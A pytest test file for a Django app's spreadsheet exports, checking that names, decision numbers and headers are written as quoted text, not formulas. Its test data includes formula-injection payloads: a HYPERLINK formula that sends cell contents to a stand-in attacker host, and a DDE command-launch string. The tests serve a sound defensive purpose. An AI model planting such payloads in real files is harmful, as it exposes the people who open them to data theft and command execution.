"""Formula injection: user text in every .xlsx export is written as text, never a formula
(canbo/core/xlsx.py is the one writer)."""

from datetime import date
from decimal import Decimal
from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from canbo.cadre.models import DecisionKind
from canbo.cadre.services.records import record_decision
from canbo.core import xlsx
from canbo.integration.imports.reader import template
from canbo.people.models import Person
from canbo.work.catalog_services import create_catalog, save_catalog_item
from canbo.work.models import CatalogItem
from canbo.work.xlsx import export_catalog

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
STARTS = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def cells(content: bytes) -> list:
    book = load_workbook(BytesIO(content))
    return [cell for ws in book for row in ws.iter_rows() for cell in row]


def assert_text(content: bytes, *values: str) -> None:
    found = {cell.value: cell for cell in cells(content) if isinstance(cell.value, str)}
    for value in values:
        assert value in found, value
        assert found[value].data_type == "s", value
    assert not [c for c in cells(content) if c.data_type == "f"]


@pytest.fixture
def evil_person(world):
    Person.objects.filter(pk=world.people["staff"].pk).update(full_name=EVIL)
    world.people["staff"].refresh_from_db()
    return world.people["staff"]


def test_unit_summary_writes_a_name_as_text(client, world, period, evil_person):
    client.force_login(world.users["chair"])
    response = client.get(f"/reports/unit.xlsx?period={period.pk}")
    assert response.status_code == 200
    assert_text(response.content, EVIL)


def test_cadre_listing_writes_a_name_and_a_decision_number_as_text(client, world, evil_person):
    record_decision(
        None,
        evil_person,
        DecisionKind.KHIEN_TRACH,
        "=1+2",
        date(2026, 2, 1),
        "UBND",
        "Chậm trễ",
        True,
    )
    client.force_login(world.users["personnel"])
    response = client.get(reverse("cadre:decisions"), {"format": "xlsx"})
    assert_text(response.content, EVIL, "=1+2")


def test_catalogue_export_writes_an_item_as_text(world):
    catalog = create_catalog(None, world.tanphong, "Danh mục", date(2026, 1, 1))
    item = CatalogItem(catalog=catalog, code="X1", name=EVIL, unit="@bộ", coefficient=Decimal("1"))
    save_catalog_item(None, item, [])
    assert_text(export_catalog(catalog), EVIL, "@bộ")


def test_import_template_headers_are_text():
    assert_text(template(["=A1", "Tên"], "Nhiệm vụ", ["-ghi chú"]), "=A1", "-ghi chú")


@pytest.mark.parametrize("value", STARTS)
def test_the_writer_keeps_every_risky_start_as_quoted_text(value):
    book = Workbook()
    xlsx.append(book.active, [value, 1.5, None, "bình thường"])
    xlsx.put(book.active, 2, 1, value)
    buffer = BytesIO()
    book.save(buffer)
    again = load_workbook(BytesIO(buffer.getvalue())).active
    for cell in (again["A1"], again["A2"]):
        assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", True)
    assert (again["B1"].value, again["B1"].data_type) == (1.5, "n")
    assert not again["D1"].quotePrefix


def test_control_characters_do_not_crash_an_export():
    book = Workbook()
    xlsx.append(book.active, ["a\x00b\x1bc"])
    book.save(BytesIO())
    assert book.active["A1"].value == "abc"


def test_every_module_that_builds_a_workbook_writes_through_the_one_writer():
    import re
    from pathlib import Path

    import canbo

    root = Path(canbo.__file__).parent
    builders = [p for p in root.rglob("*.py") if "Workbook()" in p.read_text(encoding="utf-8")]
    assert builders  # the exports exist
    for path in builders:
        text = path.read_text(encoding="utf-8")
        assert re.search(r"from canbo\.core import .*\bxlsx\b", text), path
        assert not re.search(r"\b(sheet|ws|guide)\.(append|cell)\(", text), path
